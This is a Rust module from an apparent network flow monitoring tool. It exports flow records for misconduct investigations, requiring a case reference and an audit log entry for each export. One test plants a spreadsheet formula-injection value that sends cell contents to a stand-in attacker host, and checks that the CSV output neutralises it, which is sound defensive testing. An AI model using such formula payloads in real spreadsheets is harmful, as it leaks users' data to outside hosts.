//! Investigation exports: the flow records a filter selects, written as CSV, JSON Lines or
//! IPFIX, with an entry in the keyed, journaled audit log ([`audit`]) for every export;
//! and the live IPFIX export of ended flows to a collector ([`ipfix`]).
//!
//! The policies allow history to be looked at only when a senior manager asks over
//! misconduct concerns: an export needs a case reference and the requester's name, and
//! both go into the audit log with who ran it and what it wrote. The file appears only
//! once its entry is on disk ([`pending`]).

pub mod audit;
pub mod ipfix;
mod pending;
mod spreadsheet;

use std::path::{Path, PathBuf};

use anyhow::{Context as _, bail};
use jiff::Timestamp;
use serde::Serialize;
use sha2::{Digest as _, Sha256};

use crate::store::{Filter, Store, StoredFlow};

/// The file formats of an export.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum, Serialize)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    /// One row per flow with a header row (RFC 4180), for spreadsheets: a text cell that a
    /// spreadsheet would run as a formula starts with `'`.
    Csv,
    /// One JSON object per line, the same fields as the CSV, every value exact.
    Jsonl,
    /// IPFIX messages (RFC 7011) as a file (RFC 5655): two records per flow, client to
    /// server and back; names and classes as enterprise-specific elements.
    Ipfix,
}

impl Format {
    pub fn name(self) -> &'static str {
        match self {
            Format::Csv => "csv",
            Format::Jsonl => "jsonl",
            Format::Ipfix => "ipfix",
        }
    }
}

/// One exported flow: the record flattened into named columns.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, serde::Deserialize)]
pub struct ExportRow {
    pub start: Timestamp,
    pub end: Timestamp,
    /// Empty when the record was anonymised.
    pub client: String,
    pub client_port: u16,
    pub client_mac: String,
    pub server: String,
    pub server_port: u16,
    pub protocol: String,
    pub name: String,
    pub category: String,
    pub app: String,
    pub method: String,
    pub group: String,
    pub verdict: String,
    pub ech: bool,
    /// First bytes that looked like TLS or HTTP but could not be read.
    pub unreadable: bool,
    /// What the client did to hide the name (`;`-separated: `bad-checksum;reordered`).
    pub evasion: String,
    /// A second name read from a second version of the same bytes.
    pub second_name: String,
    pub second_category: String,
    pub up_packets: u64,
    pub up_bytes: u64,
    pub down_packets: u64,
    pub down_bytes: u64,
    pub blocked_packets: u64,
    pub blocked_bytes: u64,
    pub shaped_packets: u64,
    pub shaped_bytes: u64,
    pub end_reason: String,
    pub anonymised: bool,
    /// The translated source the uploads left the gateway with (NAT); empty without.
    #[serde(default)]
    pub public_addr: String,
    #[serde(default)]
    pub public_port: Option<u16>,
}

impl From<&StoredFlow> for ExportRow {
    fn from(stored: &StoredFlow) -> Self {
        let flow = &stored.flow;
        let (client, client_port) = if stored.anonymised {
            (String::new(), 0)
        } else {
            (flow.client.ip().to_string(), flow.client.port())
        };
        Self {
            start: flow.first_seen,
            end: flow.last_seen,
            client,
            client_port,
            client_mac: flow.client_mac.clone().unwrap_or_default(),
            server: flow.server.ip().to_string(),
            server_port: flow.server.port(),
            protocol: flow.protocol.clone(),
            name: flow.name.clone().unwrap_or_default(),
            category: flow.category.clone(),
            app: flow.app.clone(),
            method: flow.method.clone(),
            group: flow.group.clone(),
            verdict: flow.verdict.clone(),
            ech: flow.ech,
            unreadable: flow.unreadable,
            evasion: flow.evasion.join(";"),
            second_name: flow.second_name.clone().unwrap_or_default(),
            second_category: flow.second_category.clone().unwrap_or_default(),
            up_packets: flow.upload.packets,
            up_bytes: flow.upload.bytes,
            down_packets: flow.download.packets,
            down_bytes: flow.download.bytes,
            blocked_packets: flow.blocked.packets,
            blocked_bytes: flow.blocked.bytes,
            shaped_packets: flow.shaped.packets,
            shaped_bytes: flow.shaped.bytes,
            end_reason: flow.ended.map(|r| r.name()).unwrap_or("").to_owned(),
            anonymised: stored.anonymised,
            public_addr: flow
                .public_source
                .map(|s| s.ip().to_canonical().to_string())
                .unwrap_or_default(),
            public_port: flow.public_source.map(|s| s.port()),
        }
    }
}

/// An export as asked for.
#[derive(Clone, Debug)]
pub struct ExportRequest {
    pub case: String,
    pub requested_by: String,
    pub operator: audit::Operator,
    pub filter: Filter,
    pub format: Format,
    pub out: PathBuf,
}

/// What an export did.
#[derive(Clone, Debug)]
pub struct ExportDone {
    pub rows: u64,
    /// The export's entry, and the record of a torn line found before it.
    pub audit: audit::Recorded,
}

/// Checks the request, writes the file where no one sees it, audits it (the log, then
/// `witness`), and only then gives it its name (never an existing file's).
pub fn export(
    request: &ExportRequest,
    store: &str,
    audit_log: &audit::AuditLog,
    witness: &audit::Witness,
    now: Timestamp,
) -> anyhow::Result<ExportDone> {
    if request.case.trim().is_empty() {
        bail!("an export needs a case reference (--case): history is opened only for a case");
    }
    if request.requested_by.trim().is_empty() {
        bail!("an export needs the name of who asked for it (--requested-by)");
    }
    if !Store::exists(store) {
        bail!(
            "no flow store at {} (the daemon's `run --store`)",
            crate::store::pg_connect::redact(store)
        );
    }
    // Never what the retention job should have removed, whether or not it has run.
    let flows = Store::open(store)?.query_retained(&request.filter, now)?;
    let bytes = encode(&flows, request.format)?;
    let pending = pending::Pending::write(&request.out, &bytes)?;
    let facts = audit::ExportFacts {
        case: request.case.trim().to_owned(),
        requested_by: request.requested_by.trim().to_owned(),
        operator: request.operator.name.clone(),
        login_uid: request.operator.login_uid,
        filter: request.filter.clone(),
        format: request.format.name().to_owned(),
        file: absolute(&request.out).display().to_string(),
        rows: flows.len() as u64,
        file_sha256: audit::hex(&Sha256::digest(&bytes)),
    };
    // An export that cannot be audited is never named: dropped, the file is gone.
    let audit = audit_log
        .record(facts, now, witness, || pending.publish())
        .with_context(|| format!("no export was made to {}", request.out.display()))?;
    Ok(ExportDone {
        rows: flows.len() as u64,
        audit,
    })
}

/// The file's bytes for `flows` in `format`.
pub fn encode(flows: &[StoredFlow], format: Format) -> anyhow::Result<Vec<u8>> {
    let rows = flows.iter().map(ExportRow::from);
    match format {
        Format::Csv => {
            let mut writer = csv::Writer::from_writer(Vec::new());
            for row in rows {
                writer.serialize(spreadsheet::for_spreadsheet(row))?;
            }
            // A header row even when nothing matched.
            if flows.is_empty() {
                return Ok(csv_header().into_bytes());
            }
            writer.into_inner().context("finishing the CSV")
        }
        Format::Jsonl => {
            let mut out = Vec::new();
            for row in rows {
                serde_json::to_writer(&mut out, &row)?;
                out.push(b'\n');
            }
            Ok(out)
        }
        Format::Ipfix => {
            let records: Vec<_> = flows.iter().map(|s| s.flow.clone()).collect();
            // From the store: no interfaces, and no enterprise fields (the file's reader
            // has no site number to read them under).
            let mut encoder =
                ipfix::Encoder::new(ipfix::OBSERVATION_DOMAIN, ipfix::Layout::default());
            Ok(encoder.messages(&records, Timestamp::now()).concat())
        }
    }
}

fn csv_header() -> String {
    "start,end,client,client_port,client_mac,server,server_port,protocol,name,category,app,\
     method,group,verdict,ech,unreadable,evasion,second_name,second_category,up_packets,\
     up_bytes,down_packets,down_bytes,blocked_packets,blocked_bytes,shaped_packets,\
     shaped_bytes,end_reason,anonymised,public_addr,public_port\n"
        .to_owned()
}

fn absolute(path: &Path) -> PathBuf {
    std::path::absolute(path).unwrap_or_else(|_| path.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        export::audit::tests::TempAudit,
        store::{
            EndReason, FlowStore,
            tests::{TempStore, flow},
        },
    };

    #[test]
    fn csv_and_jsonl_read_back_as_the_stored_records() {
        let temp = TempStore::new("export");
        let mut store = FlowStore::open(&temp.path).unwrap();
        let mut closed = flow(
            "192.0.2.10:40000",
            "2026-11-23T10:00:00Z",
            "streaming-video",
            9000,
        );
        closed.ended = Some(EndReason::Fin);
        store
            .insert(&[
                closed,
                flow(
                    "[2001:db8:1::10]:40001",
                    "2026-11-23T10:01:00Z",
                    "gambling",
                    7,
                ),
            ])
            .unwrap();
        let stored = store.query(&Filter::default()).unwrap();
        let expected: Vec<ExportRow> = stored.iter().map(ExportRow::from).collect();

        let csv_bytes = encode(&stored, Format::Csv).unwrap();
        let from_csv: Vec<ExportRow> = csv::Reader::from_reader(csv_bytes.as_slice())
            .deserialize()
            .collect::<Result<_, _>>()
            .unwrap();
        assert_eq!(from_csv, expected);
        assert!(String::from_utf8_lossy(&csv_bytes).starts_with(&csv_header()));

        let jsonl = encode(&stored, Format::Jsonl).unwrap();
        let from_jsonl: Vec<ExportRow> = String::from_utf8(jsonl)
            .unwrap()
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect();
        assert_eq!(from_jsonl, expected);
        assert_eq!(expected[0].end_reason, "fin");
        assert_eq!(expected[0].down_bytes, 9000);
        assert_eq!(expected[1].client, "2001:db8:1::10");
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_run_are_neutralised_and_jsonl_stays_exact() {
        let temp = TempStore::new("export-formula");
        let mut store = FlowStore::open(&temp.path).unwrap();
        let name = r#"=HYPERLINK("http://evil.example/?"&A1,"details")"#;
        let mut record = flow("192.0.2.10:40000", "2026-11-23T10:00:00Z", "gambling", 7);
        record.name = Some(name.into());
        record.group = "@staff".into();
        store.insert(&[record]).unwrap();
        let stored = store.query(&Filter::default()).unwrap();

        let csv_bytes = encode(&stored, Format::Csv).unwrap();
        let mut reader = csv::Reader::from_reader(csv_bytes.as_slice());
        let headers = reader.headers().unwrap().clone();
        let row = reader.records().next().unwrap().unwrap();
        let cell = |column: &str| &row[headers.iter().position(|h| h == column).unwrap()];
        assert_eq!(cell("name"), format!("'{name}"));
        assert_eq!(cell("group"), "'@staff");
        assert_eq!(cell("category"), "gambling");
        assert!(
            row.iter()
                .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
            "{row:?}"
        );

        let jsonl = String::from_utf8(encode(&stored, Format::Jsonl).unwrap()).unwrap();
        let exact: ExportRow = serde_json::from_str(jsonl.lines().next().unwrap()).unwrap();
        assert_eq!(
            (exact.name.as_str(), exact.group.as_str()),
            (name, "@staff")
        );
    }

    #[test]
    fn an_export_needs_a_case_and_a_requester_and_never_overwrites() {
        let temp = TempStore::new("export-refusals");
        FlowStore::open(&temp.path).unwrap();
        let audit = TempAudit::new("export-refusals");
        let dir = std::env::temp_dir().join(format!("classifier-export-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let mut request = ExportRequest {
            case: " ".into(),
            requested_by: "A. Manager".into(),
            operator: audit::Operator {
                name: "root".into(),
                login_uid: Some(0),
            },
            filter: Filter::default(),
            format: Format::Csv,
            out: dir.join("out.csv"),
        };
        let now = Timestamp::now();
        let store = temp.path.to_str().unwrap();
        let run = |request: &ExportRequest| export(request, store, &audit.log, &audit.witness, now);
        let err = run(&request).unwrap_err();
        assert!(format!("{err:#}").contains("case reference"), "{err:#}");
        request.case = "HR-1".into();
        request.requested_by = String::new();
        let err = run(&request).unwrap_err();
        assert!(format!("{err:#}").contains("--requested-by"), "{err:#}");
        assert!(
            !request.out.exists() && !audit.log.path().exists(),
            "a refusal writes nothing"
        );

        request.requested_by = "A. Manager".into();
        let done = run(&request).unwrap();
        assert_eq!((done.rows, done.audit.entry.seq), (0, 1));
        let facts = done.audit.entry.export().unwrap();
        assert_eq!(
            (facts.operator.as_str(), facts.login_uid),
            ("root", Some(0))
        );
        assert_eq!(
            facts.file_sha256,
            audit::hex(&Sha256::digest(std::fs::read(&request.out).unwrap()))
        );
        use std::os::unix::fs::PermissionsExt as _;
        let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode(&request.out), 0o600, "an export is its owner's only");
        assert_eq!(mode(&audit.log.path()), 0o640);
        let err = run(&request).unwrap_err();
        assert!(format!("{err:#}").contains("never overwrites"), "{err:#}");
        assert_eq!(audit.log.verify().unwrap().entries, 1);

        // An export that cannot be audited is never seen: here, the log does not verify.
        std::fs::write(audit.log.path(), "not an entry\n").unwrap();
        request.out = dir.join("unaudited.csv");
        let err = run(&request).unwrap_err();
        assert!(format!("{err:#}").contains("does not verify"), "{err:#}");
        assert_eq!(
            std::fs::read_dir(&dir).unwrap().count(),
            1,
            "out.csv only: no file, named or not, for the refused export"
        );
        std::fs::remove_dir_all(&dir).unwrap();
    }
}
